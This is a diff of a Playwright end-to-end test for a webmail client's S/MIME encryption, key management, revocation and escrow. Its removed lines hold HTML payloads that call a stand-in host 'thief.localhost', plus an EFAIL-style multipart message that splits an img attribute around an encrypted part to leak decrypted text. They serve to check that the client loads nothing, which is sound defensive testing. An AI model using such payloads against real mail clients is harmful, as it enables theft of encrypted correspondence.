@@ -1,26 +1,19 @@
-import { execFile } from 'node:child_process'
-import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
-import path from 'node:path'
-import { promisify } from 'node:util'
-import { expect, type Page } from '@playwright/test'
-import { createTransport } from 'nodemailer'
+import { readFileSync } from 'node:fs'
+import { expect } from '@playwright/test'
 import keysEn from '../../remote-keys/src/messages/en.ts'
 import keysZh from '../../remote-keys/src/messages/zh.ts'
 import { zh as outsideWords } from '../../remote-keys/src/outside/words.ts'
-import { temporaryRoot } from '../../server/src/testing/temporaryRoot.ts'
-import { encryptPart, fromBase64, fromText, readCertificate } from '../../shared/cms/src/index.ts'
+import { TestAuthority } from '../../shared/cms/src/testing/testAuthority.ts'
 import { fresh, newMail } from '../compose/desk.ts'
-import { apiOf, PASSWORD } from '../support/api.ts'
+import { apiOf, DOMAIN } from '../support/api.ts'
 import { violations } from '../support/axe.ts'
-import { fillLogin, goTo, type Person, place } from '../support/people.ts'
-import { type OwnServer, startServer } from '../support/startServer.ts'
+import { enter, fillLogin, goTo, place } from '../support/people.ts'
 import { test } from '../support/test.ts'
 import { countKeyScripts } from './keyScripts.ts'
+import { type KeyServer, PIN, saveKeys, startKeyServer } from './keyServer.ts'
+import { attack, enterPin, mailCalled, makeKey, SECRET, sendFromOutside, sendHidden, signOut } from './letterSteps.ts'
+import { textsInMemory, textsOfServer } from './memoryTexts.ts'
 
-const MAIN = path.resolve(import.meta.dirname, '../../server/src/cli/main.ts')
-const PIN = '482913'
-const SECRET = '收购价格是三亿'
-const WORDS = { zh: keysZh, en: keysEn }
 const { outside: outsideZh } = outsideWords
 
 /** How the private key of a curve begins in base64, as it would stand in a text. */
@@ -29,188 +22,24 @@ const PIXEL = Buffer.from(
   'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGD4DwABBAEAX+XDSwAAAABJRU5ErkJggg==',
   'base64',
 )
-/** Where the server writes its memory to. */
-const memory = mkdtempSync(path.join(temporaryRoot(), 'yanshu-memory-'))
 
-let server: OwnServer
-let logged = ''
-let authority: string
-let secret: string
-
-const yanshu = (...args: string[]) =>
-  promisify(execFile)(process.execPath, [MAIN, '--data', server.dataFolder, 'ca', ...args])
-
+let keys: KeyServer
 test.beforeAll(async () => {
-  const NODE_OPTIONS = `--heapsnapshot-signal=SIGUSR2 --diagnostic-dir=${memory}`
-  server = await startServer({
-    settings: { NODE_OPTIONS },
-    onOutput: (text) => {
-      logged += text
-    },
-  })
-  server.setSwitches({ smimeEnable: true, smimeCodeEnable: true })
-  authority = path.join(server.client, '../authority')
-  secret = path.join(server.client, '../secret')
-  writeFileSync(secret, 'a passphrase of the test')
-  await yanshu('create', authority, '--name', 'Test CA', '--algorithm', 'ec', '--passphrase-file', secret)
-  await yanshu('trust', path.join(authority, 'authority.pem'))
+  keys = await startKeyServer()
 })
-test.afterAll(async () => {
-  await server.remove()
-  rmSync(memory, { recursive: true, force: true })
-})
-
-/** Makes a key on the page of keys, as a person does. */
-async function makeKey({ page, language }: Person): Promise<void> {
-  const words = WORDS[language]
-  await goTo(page, '/set/smime')
-  await page.getByRole('button', { name: words.keys.make, exact: true }).click()
-  const dialog = page.getByRole('dialog', { name: words.make.title })
-  await dialog.getByRole('radio', { name: words.kinds['p-256'] }).check()
-  await dialog.getByLabel(words.pin.new, { exact: true }).fill(PIN)
-  await dialog.getByLabel(words.pin.again, { exact: true }).fill(PIN)
-  await dialog.getByRole('button', { name: words.make.go, exact: true }).click()
-  await confirmPassword(page, language)
-  await expect(page.getByText(words.states.waiting)).toBeVisible()
-  await page.getByRole('button', { name: words.intro.close, exact: true }).click()
-}
-
-/** Enters the login password where it is asked for: a session that was just opened has it. */
-async function confirmPassword(page: Page, language: 'zh' | 'en'): Promise<void> {
-  const words = WORDS[language]
-  const question = page.getByRole('dialog', { name: words.login.title })
-  const done = page.getByText(words.make.done)
-  await expect(question.or(done).first()).toBeVisible()
-  if (await done.isVisible()) return
-  await question.getByLabel(words.login.password, { exact: true }).fill(PASSWORD)
-  await question.getByRole('button', { name: words.go, exact: true }).click()
-}
-
-/** Signs out by the menu of the top bar, without loading the page again. */
-async function signOut({ page, words }: Person): Promise<void> {
-  await page.getByRole('button', { name: words.shell.topBar.more, exact: true }).first().click()
-  await page.getByRole('menuitem', { name: words.shell.topBar.signOut }).click()
-  await expect(page.getByRole('button', { name: words.login.submit, exact: true })).toBeVisible()
-}
-
-/** Waits for a mail in the inbox. */
-async function mailCalled({ api }: Person, subject: string): Promise<number> {
-  let mailId = 0
-  await expect(async () => {
-    mailId = (await api.inbox()).find((mail) => mail.subject.endsWith(subject))?.mailId ?? 0
-    expect(mailId).toBeGreaterThan(0)
-  }).toPass({ timeout: 60_000 })
-  return mailId
-}
-
-async function enterPin(page: Page, language: 'zh' | 'en'): Promise<void> {
-  const words = WORDS[language]
-  const dialog = page.getByRole('dialog', { name: words.unlock.title })
-  await dialog.getByLabel(words.pin.own, { exact: true }).fill(PIN)
-  await dialog.getByRole('button', { name: words.unlock.go, exact: true }).click()
-  await expect(dialog).toHaveCount(0)
-}
-
-/** Sends an encrypted letter whose subject is encrypted too, with the writer's own address in Bcc, and opens that copy. */
-async function sendHidden(writer: Person, subject: string): Promise<void> {
-  const { page } = writer
-  const letter = await newMail(page)
-  await letter.to.fill('li.na@yanshu.test')
-  await letter.to.press('Enter')
-  await page.getByRole('button', { name: '密送', exact: true }).filter({ visible: true }).click()
-  const blind = page.getByRole('combobox', { name: '密送' })
-  await blind.fill('wang.fang@yanshu.test')
-  await blind.press('Enter')
-  await letter.subject.fill(subject)
-  await letter.text.click()
-  await page.keyboard.type(SECRET)
-  const option = page.getByRole('group', { name: keysZh.write.legend })
-  await option.getByRole('checkbox', { name: keysZh.write.encrypt, exact: true }).check()
-  await option.getByRole('checkbox', { name: keysZh.write.hideSubject }).check()
-  await expect(option).toContainText('1 位密送收件人各收到单独加密的一份')
-  expect(await violations(page, { include: 'main' })).toEqual([])
-  const asked = page.waitForRequest('**/api/mail/email/send')
-  await letter.send.click()
-  const { options } = (await asked).postDataJSON()
-  const copies = [{ address: 'wang.fang@yanshu.test', part: expect.any(String) }]
-  expect(options['remote-keys.protection']).toMatchObject({ encrypt: true, hideSubject: true, copies })
-  const mailId = await mailCalled(writer, '[...]')
-  expect((await writer.api.inbox()).some((mail) => mail.subject === subject)).toBe(false)
-  await goTo(page, `/reply/0/${mailId}`)
-  const card = page.getByRole('region', { name: keysZh.reading.label }).filter({ visible: true })
-  await expect(card).toContainText(subject)
-}
-
-/**
- * The texts of a heap snapshot, which come last in it: what stands before them is most of it. Without the numbers that V8
- * gives to objects, behind an @, of which one may be the PIN. Throws for a snapshot that has no end.
- */
-const textsOf = (snapshot: string): string[] =>
-  JSON.parse(`{${snapshot.slice(snapshot.lastIndexOf('"strings":')).replaceAll(/@\d+/g, '@')}`).strings
-
-/** The texts that the page has in memory; bytes of buffers are not among them. */
-async function textsInMemory(page: Page): Promise<string[]> {
-  const session = await page.context().newCDPSession(page)
-  const chunks: string[] = []
-  session.on('HeapProfiler.addHeapSnapshotChunk', ({ chunk }) => chunks.push(chunk))
-  await session.send('HeapProfiler.collectGarbage')
-  await session.send('HeapProfiler.takeHeapSnapshot')
-  await session.detach()
-  return textsOf(chunks.join(''))
-}
-
-/** The texts that the server has in memory. */
-async function textsOfServer(): Promise<string[]> {
-  let texts: string[] = []
-  server.signal('SIGUSR2')
-  await expect(() => {
-    const [file = 'none'] = readdirSync(memory)
-    texts = textsOf(readFileSync(path.join(memory, file), 'utf8'))
-  }).toPass({ timeout: 60_000 })
-  return texts
-}
-
-/** HTML that asks a server of its writer for something in each way that a browser knows. */
-const HOSTILE = [
-  '<style>@import url(http://thief.localhost/a);p{background:url(http://thief.localhost/b)}</style>',
-  '<link rel=stylesheet href=http://thief.localhost/c><base href=http://thief.localhost/>',
-  '<img src=http://thief.localhost/d srcset="http://thief.localhost/e 2x"><video poster=http://thief.localhost/f></video>',
-  '<meta http-equiv=refresh content="0;url=http://thief.localhost/g"><iframe src=http://thief.localhost/h></iframe>',
-].join('')
-
-/**
- * Sends the reader two letters that are encrypted to them, as an attacker does who has the encrypted text of another: with HTML
- * that loads from elsewhere before it, and between parts of which one opens an attribute and the other closes it.
- */
-async function attack({ api }: Person, subject: string): Promise<void> {
-  const { list } = await api.post('keymanagement/key/getKeyByEmail', { emails: ['li.na@yanshu.test'] })
-  const certificate = readCertificate(fromBase64(list[0]?.certificates[0] ?? ''))
-  const html = `${HOSTILE}<p>${SECRET}</p>`
-  const part = await encryptPart(
-    fromText(`Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n${html}\r\n`),
-    { recipients: [certificate], cipher: 'AES-256-CBC', rsa: 'PKCS1-v1_5' },
-  )
-  const sealed = Buffer.from(part).toString('latin1')
-  const open = 'Content-Type: text/html\r\n\r\n<p>before</p><img src="http://thief.localhost/?\r\n'
-  const close = 'Content-Type: text/html\r\n\r\n"><p>behind</p>\r\n'
-  const mixed = `Content-Type: multipart/mixed; boundary=E\r\n\r\n--E\r\n${open}--E\r\n${sealed}\r\n--E\r\n${close}--E--\r\n`
-  const transport = createTransport(server.smtpUrl)
-  const [from, to] = ['thief@example.org', 'li.na@yanshu.test']
-  for (const [name, body] of Object.entries({ alone: sealed, between: mixed })) {
-    const raw = `From: <${from}>\r\nTo: <${to}>\r\nSubject: ${subject} ${name}\r\nMIME-Version: 1.0\r\n${body}`
-    await transport.sendMail({ envelope: { from, to }, raw })
-  }
-  transport.close()
-}
+test.afterAll(() => keys.remove())
 
 test('given two people with certificates, then one signs and encrypts to the other, who alone reads it, loads nothing for it and answers encrypted', async ({
   someone,
+  stranger,
 }) => {
   test.setTimeout(240_000)
+  const { server } = keys
   const writer = await someone({ user: 'wang.fang', server: server.url, language: 'zh' })
-  const reader = await someone({ user: 'li.na', server: server.url, language: 'en' })
   await makeKey(writer)
-  await makeKey(reader)
+  await writer.api.save({ undoSeconds: 5 })
+  const reader = await stranger({ user: 'li.na', server: server.url, language: 'en' })
+  await reader.api.save({ undoSeconds: 5 })
 
   const subject = fresh('收购')
   const letter = await newMail(writer.page)
@@ -241,7 +70,8 @@ test('given two people with certificates, then one signs and encrypts to the oth
   await expect(writer.page.getByText(keysZh.write.ownMissing).last()).toBeVisible()
   expect(await violations(writer.page, { include: 'main' })).toEqual([])
 
-  await yanshu('issue', authority, '--all', '--passphrase-file', secret)
+  await keys.issueAll()
+  await saveKeys(reader.api, [await keys.issueFor('li.na')])
   for (const name of [keysZh.write.sign, keysZh.write.encrypt])
     await option.getByRole('checkbox', { name, exact: true }).uncheck()
   for (const name of [keysZh.write.sign, keysZh.write.encrypt])
@@ -264,15 +94,12 @@ test('given two people with certificates, then one signs and encrypts to the oth
   expect(options['remote-keys.protection']).toMatchObject({ sign: true, encrypt: true, part: expect.any(String) })
   await expect(writer.page.locator('[aria-live]').filter({ hasText: '已发送' })).toBeVisible()
 
-  const mailId = await mailCalled(reader, subject)
+  const mailId = await mailCalled(reader.api, subject)
   const { page } = reader
   const asks: string[] = []
   page.on('request', (request) => asks.push(request.url()))
-  // Away from the page of keys, which has scripts of its own.
-  await goTo(page, '/')
-  await expect(place(page, reader.words.own.folder.inbox)).toBeVisible()
   const scriptsOfReading = countKeyScripts(page, 'reading an encrypted letter')
-  await page.reload()
+  await enter(page, reader.user, '/')
   await expect(place(page, reader.words.own.folder.inbox)).toBeVisible()
   await goTo(page, `/reply/0/${mailId}`)
   const card = page.getByRole('region', { name: keysEn.reading.label })
@@ -301,11 +128,11 @@ test('given two people with certificates, then one signs and encrypts to the oth
 
   // Letters of an attacker: what is encrypted is shown in its own frame, or not opened, and loads nothing.
   const stolen = `Stolen ${Date.now()}`
-  await attack(reader, stolen)
-  await goTo(page, `/reply/0/${await mailCalled(reader, `${stolen} alone`)}`)
+  await attack(keys, reader, stolen)
+  await goTo(page, `/reply/0/${await mailCalled(reader.api, `${stolen} alone`)}`)
   const opened = page.locator(`iframe[title="${keysEn.reading.text}"]`).filter({ visible: true })
   await expect(opened.contentFrame().getByText(SECRET)).toBeVisible()
-  await goTo(page, `/reply/0/${await mailCalled(reader, `${stolen} between`)}`)
+  await goTo(page, `/reply/0/${await mailCalled(reader.api, `${stolen} between`)}`)
   await expect(
     page.locator('article iframe').filter({ visible: true }).contentFrame().getByText('before'),
   ).toBeVisible()
@@ -319,7 +146,7 @@ test('given two people with certificates, then one signs and encrypts to the oth
   await page.getByRole('textbox', { name: reader.words.compose.editor.label }).fill(answer)
   await page.getByRole('button', { name: reader.words.compose.actions.send, exact: true }).click()
   await expect(page.locator('[aria-live]').filter({ hasText: reader.words.compose.send.done })).toBeVisible()
-  const answerId = await mailCalled(writer, subject)
+  const answerId = await mailCalled(writer.api, subject)
   const { attachments } = await writer.api.post('mail/email/detail', { mailId: answerId })
   expect(attachments.map(({ name }) => name)).toEqual(['smime.p7m'])
   expect(JSON.stringify(await writer.api.post('mail/email/detail', { mailId: answerId }))).not.toContain(answer)
@@ -327,7 +154,7 @@ test('given two people with certificates, then one signs and encrypts to the oth
   // One with an encrypted subject goes to the reader, and to the writer's own address in Bcc as a copy of its own.
   const hidden = `Hidden ${Date.now()}`
   await sendHidden(writer, hidden)
-  await mailCalled(reader, '[...]')
+  await mailCalled(reader.api, '[...]')
 
   // The next person on the same browser has no key, and sees nothing of it.
   const stored = await page.evaluate(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }]))
@@ -339,11 +166,11 @@ test('given two people with certificates, then one signs and encrypts to the oth
   const texts = await textsInMemory(page)
   for (const one of [SECRET, PIN, PRIVATE_KEY]) expect(texts.filter((text) => text.includes(one))).toEqual([])
   // The server has written and queued the letters, and has neither a PIN nor a key.
-  const onServer = await textsOfServer()
+  const onServer = await textsOfServer(keys)
   expect(onServer.some((text) => text.includes('wang.fang@yanshu.test'))).toBe(true)
   for (const one of [PIN, PRIVATE_KEY]) {
     expect(onServer.filter((text) => text.includes(one))).toEqual([])
-    expect(logged).not.toContain(one)
+    expect(keys.printed()).not.toContain(one)
   }
   await goTo(page, '/set/smime')
   await expect(page.getByText(keysEn.intro.none)).toBeVisible()
@@ -358,10 +185,10 @@ test('given a letter to a person without a certificate, then its draft is kept e
   stranger,
 }) => {
   test.setTimeout(180_000)
+  const { server } = keys
+  await saveKeys(await apiOf(server.url, 'zhang.wei'), [await keys.issueFor('zhang.wei')])
   const writer = await someone({ user: 'zhang.wei', server: server.url, language: 'zh' })
   const { page } = writer
-  await makeKey(writer)
-  await yanshu('issue', authority, '--all', '--passphrase-file', secret)
   const kept: string[] = []
   page.on('request', (request) => {
     if (/\/api\/mail\/email\/(?:drafts|send)$/.test(request.url())) kept.push(request.postData() ?? '')
@@ -494,4 +321,72 @@ test('given a letter to a person without a certificate, then its draft is kept e
     expect(readFileSync(await (await download).path(), 'utf8')).toBe(`${name} ${SECRET}`)
   }
   expect(await violations(outside)).toEqual([])
+})
+
+test('given mail to an old key that was revoked, then the page names that, and encrypts the mail to the new key', async ({
+  someone,
+}) => {
+  const user = 'gao.peng'
+  const address = `${user}@${DOMAIN}`
+  const { page, api, seen } = await someone({ user, server: keys.server.url })
+  const old = await keys.issueFor(user, 'revoked')
+  const renewed = await keys.issueFor(user, 'good')
+  await saveKeys(api, [old, renewed])
+  const elsewhere = await TestAuthority.make('A third CA')
+  const another = await elsewhere.issue({ addresses: ['other@example.org'] })
+  await sendFromOutside(keys, 'old-1', address, old)
+  await sendFromOutside(keys, 'to-another', address, another)
+  await sendFromOutside(keys, 'fresh-1', address, renewed)
+  await expect(async () => {
+    const subjects = (await api.inbox()).map(({ subject }) => subject)
+    expect(subjects).toEqual(expect.arrayContaining(['old-1', 'to-another', 'fresh-1']))
+  }).toPass({ timeout: 60_000 })
+
+  await goTo(page, '/set/smime')
+  const cards = page.getByRole('listitem').filter({ has: page.getByText(keysZh.status.title) })
+  await expect(cards).toHaveCount(2)
+  for (const [at, words] of [
+    [0, keysZh.status.valid],
+    [1, '已于'],
+  ] as const) {
+    await cards.nth(at).getByRole('button', { name: '是否吊销' }).click()
+    await expect(cards.nth(at).getByRole('status')).toContainText(words)
+  }
+
+  const section = page.getByRole('region', { name: keysZh.again.title })
+  await section.getByRole('button', { name: keysZh.intro.unlock, exact: true }).click()
+  const dialog = page.getByRole('dialog', { name: keysZh.unlock.title })
+  await dialog.getByLabel(keysZh.pin.own, { exact: true }).fill(PIN)
+  await dialog.getByRole('button', { name: keysZh.unlock.go, exact: true }).click()
+  // The newest key is chosen.
+  await section.getByRole('button', { name: keysZh.again.go, exact: true }).click()
+  const question = page.getByRole('alertdialog', { name: keysZh.again.confirm })
+  await question.getByRole('button', { name: keysZh.again.go, exact: true }).click()
+  await expect(section).toContainText('已重新加密 1 封，无须更改 1 封，未更改 1 封')
+  const left = section.getByRole('listitem').filter({ hasText: 'to-another' })
+  await expect(left).toContainText(keysZh.errors['not-a-recipient'])
+  expect(await violations(page, { include: 'main' })).toEqual([])
+
+  // Without the old key the mail still opens.
+  const { list } = await api.get('keymanagement/key/list')
+  const oldId = list.at(-1)?.keyId ?? 0
+  await api.post('keymanagement/key/remove', { keyId: oldId })
+  const mailId = (await api.inbox()).find(({ subject }) => subject === 'old-1')?.mailId ?? 0
+  await page.reload()
+  await goTo(page, `/reply/0/${mailId}`)
+  const card = page.getByRole('region', { name: keysZh.reading.label })
+  await card.getByRole('button', { name: keysZh.intro.unlock }).click()
+  await dialog.getByLabel(keysZh.pin.own, { exact: true }).fill(PIN)
+  await dialog.getByRole('button', { name: keysZh.unlock.go, exact: true }).click()
+  await expect(card).toContainText(SECRET)
+
+  // An organisation that keeps copies of keys is named before one is made.
+  const keeper = await TestAuthority.make('审计部')
+  await keys.yanshu('escrow', 'use', keys.fileOf('keeper', keeper.certificate))
+  await goTo(page, '/set/smime')
+  await page.getByRole('button', { name: keysZh.keys.make, exact: true }).click()
+  const making = page.getByRole('dialog', { name: keysZh.make.title })
+  await expect(making).toContainText('您的单位（审计部）会保管这个密钥的副本')
+  expect(await violations(page, { include: '[role=dialog]' })).toEqual([])
+  expect(seen.violations).toEqual([])
 })
